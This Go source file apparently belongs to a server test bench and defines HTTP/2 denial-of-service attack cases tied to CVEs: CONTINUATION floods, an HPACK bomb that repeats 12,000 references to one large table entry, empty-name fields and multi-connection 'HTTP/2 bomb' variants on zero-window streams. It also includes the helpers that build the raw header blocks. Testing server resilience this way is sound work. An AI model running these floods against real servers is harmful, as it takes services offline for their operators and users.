package hostile

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"

	"github.com/hopscope/hopscope/cmd/hoplab/internal/bench/raw"
)

const (
	// maxFrame is the size of a frame that every peer takes (RFC 9113 §4.2).
	maxFrame = 16384
	// tableEntry is how long a value may be whose field just fits the dynamic
	// table of 4096 bytes (RFC 7541 §4.1).
	tableEntry = 4096 - 32 - len("x-bomb")
	// firstDynamic is the index of the latest entry of the dynamic table.
	firstDynamic = 0x80 | 62
)

// blocks returns the attacks by header blocks.
func blocks() []Attack {
	return []Attack{
		{
			ID: "continuation", Title: "CONTINUATION flood", Refs: "CVE-2023-45288", Rate: 5000, Right: []string{calm},
			First: open,
			Step: func(c *Conn, _ int) {
				c.do(c.frames.WriteContinuation(1, false, c.fields("x-filler", strings.Repeat("a", 500))))
			},
		},
		{
			ID: "continuation-empty", Title: "empty CONTINUATION flood", Refs: "CVE-2019-9518", Rate: 50_000, Right: []string{calm},
			First: open,
			Step:  func(c *Conn, _ int) { c.do(c.frames.WriteContinuation(1, false, nil)) },
		},
		{
			ID: "hpack-bomb", Title: "HPACK bomb: one large field, 12,000 references to it in each block", Refs: "CVE-2016-6581", Rate: 50,
			Right: []string{calm},
			First: func(c *Conn) {
				c.headers(c.request("GET", raw.Marked, "x-bomb", strings.Repeat("b", tableEntry)), true)
			},
			Step: func(c *Conn, _ int) { c.headers(references(12_000), true) },
		},
		{
			ID: "empty-names", Title: "fields with empty names", Refs: "CVE-2019-9516", Rate: 2000, Right: []string{calm, protocol},
			Step: func(c *Conn, _ int) {
				c.headers(append(references(0), bytes.Repeat([]byte{0, 0, 0}, 100)...), true)
			},
		},
		{
			ID: "bomb", Title: "HTTP/2 bomb: cookie crumbs by reference, on streams whose window is 0", Refs: "CVE-2026-49975", Rate: 100,
			Connections: 4, Right: []string{calm},
			Begin: begin(0),
			First: func(c *Conn) { c.headers(c.request("GET", raw.Marked, "cookie", "a=b"), true) },
			Step:  func(c *Conn, _ int) { c.headers(references(4000), true) },
		},
		{
			ID: "bomb-below-limit", Title: "HTTP/2 bomb below the limits of all: 80 references, on 20 times 100 streams whose window is 0", Refs: "CVE-2026-49975", Rate: 1000,
			Connections: 20, Lasts: pinned, Bound: bounded,
			Begin: begin(0),
			First: func(c *Conn) { c.headers(c.request("GET", raw.Marked, "cookie", "a=b"), true) },
			Step: func(c *Conn, i int) {
				if i < 99 {
					c.headers(references(80), true)
				}
				c.do(c.frames.WriteWindowUpdate(0, 1)) // something is going on
			},
		},
	}
}

// open begins a header block that goes on.
func open(c *Conn) {
	c.do(c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.request("GET", raw.Marked)}))
}

// references returns the header block of a request that refers n times to the
// latest entry of the dynamic table. Nothing in it changes the table: its other
// fields are in the static one or never indexed.
func references(n int) []byte {
	block := []byte{0x80 | 2, 0x80 | 6} // :method GET, :scheme http
	for _, f := range []struct {
		name  byte // index
		value string
	}{{4, raw.Marked}, {1, authority}} { // :path, :authority
		block = append(append(block, f.name, byte(len(f.value))), f.value...)
	}
	for range n {
		block = append(block, firstDynamic)
	}
	return block
}
